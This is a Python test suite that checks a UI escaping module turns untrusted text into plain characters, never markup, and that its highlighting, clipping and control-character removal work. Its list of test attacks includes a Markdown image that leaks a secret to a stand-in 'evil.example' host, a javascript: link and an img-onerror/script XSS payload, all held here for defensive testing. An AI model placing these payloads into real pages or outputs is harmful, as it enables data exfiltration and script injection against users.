"""Foreign text never becomes markup."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from core.domain import Span
from ui.markup import JOINER, clip, escape, highlight, inline, prose, visible

ATTACKS = [
    "![x](http://evil.example/?d=secret)",
    "[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "# heading\n\n---\n\n> quote\n\n1. one\n\n- two",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "    indented code\n\tand a tab",
    "```python\nimport os\n```",
    "$x^2$ and $$y$$ and :red[text] and :material/home: and :smile:",
    "http://evil.example www.evil.example someone@evil.example",
    "a -> b <- c -- d >= e ~= f",
    "title\n===\nother\n---",
    "[ref]: http://evil.example 'x'\n\n[ref]",
    "&lt;b&gt; &#91; \\* ~~gone~~ **bold** _it_ `code`",
]
_INNOCENT = {"paragraph_open", "paragraph_close", "inline", "text", "hardbreak", "softbreak", "text_special"}


def parsed(markdown: str) -> tuple[set[str], str]:
    """The kinds of tokens of a Markdown text, and the text that it shows."""
    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(markdown)
    flat = [child for token in tokens for child in (token, *(token.children or []))]
    shown = "".join(t.content if t.type in {"text", "text_special"} else "\n" for t in flat if t.type != "inline")
    return {token.type for token in flat}, shown


def same(text: str) -> str:
    """A text without what may differ: white space and invisible joiners."""
    return re.sub(r"\s|" + JOINER, "", text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_show_as_the_characters_they_are(attack: str) -> None:
    """Links, images, HTML, headings, lists, tables, code and formulas stay plain text, character by character."""
    kinds, shown = parsed(escape(attack))
    assert kinds <= _INNOCENT
    assert same(shown) == same(attack)


@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cc", "Cf", "Cs")), max_size=200))
def test_any_text_stays_plain(text: str) -> None:
    """Whatever the text, no markup comes out and no visible character is lost."""
    kinds, shown = parsed(escape(text))
    assert kinds <= _INNOCENT
    assert same(shown) == same(text)


def test_what_streamlit_looks_for_after_parsing_is_broken_up() -> None:
    """Addresses, shortcodes and arrows are split by an invisible joiner."""
    shown = escape("see http://a.example www.b.example c@d.example :smile: and ->").replace("\\", "")
    for part in ("http:", "www.", "c@", ":smile:", "->"):
        assert part not in shown
    assert same(shown) == same("see http://a.example www.b.example c@d.example :smile: and ->")


def test_highlight_marks_exactly_the_words() -> None:
    """The quoted words stand in a highlight, the rest doesn't, and touching spans are one."""
    text = "One. Two [x]. Three."
    assert highlight(text, [Span(5, 9), Span(9, 13)]) == r"One\. :yellow-background[Two \[x\]\.] Three\."


def test_highlight_over_a_paragraph_has_one_mark_a_line() -> None:
    """A highlight that runs over an empty line is closed and opened again."""
    assert highlight("ab\n\ncd", [Span(1, 5)]) == "a:yellow-background[b]\n\n:yellow-background[c]d"


def test_highlight_ignores_spans_outside() -> None:
    """Spans beyond the text, empty or reversed, do no harm."""
    assert highlight("abc", [Span(5, 9), Span(2, 2), Span(3, 1)]) == "abc"


def test_long_lines_flow_and_short_ones_break() -> None:
    """Lines broken for their length are joined again; lists and verses keep their lines."""
    long = "word " * 13 + "end"
    assert escape(f"{long}\nand on") == f"{long}\nand on"
    assert escape("short\nline") == "short  \nline"


def test_control_and_direction_marks_are_dropped() -> None:
    """Characters that could make a text read differently from what it says are gone."""
    assert inline("a\x1b[2Jb\u202ec") == "a\\[2Jbc"


def test_prose_keeps_code_between_backticks() -> None:
    """What a manual writes between backticks shows as code; everything else is escaped."""
    assert prose("Run `a *b*` *now*.") == "Run `a *b*` \\*now\\*\\."


def test_clip_says_how_much_is_left_out() -> None:
    """A long text is cut with a count of what is missing; a short one isn't touched."""
    assert clip("abcdef", 3) == "abc … (3 more characters)"
    assert clip("abc", 3) == "abc"


@pytest.mark.parametrize(("text", "expected"), [("", False), (" \n\u200b\x00", False), ("?", True), ("你", True)])
def test_visible(text: str, expected: bool) -> None:
    """A text of white space, joiners or control characters has nothing to see."""
    assert visible(text) is expected
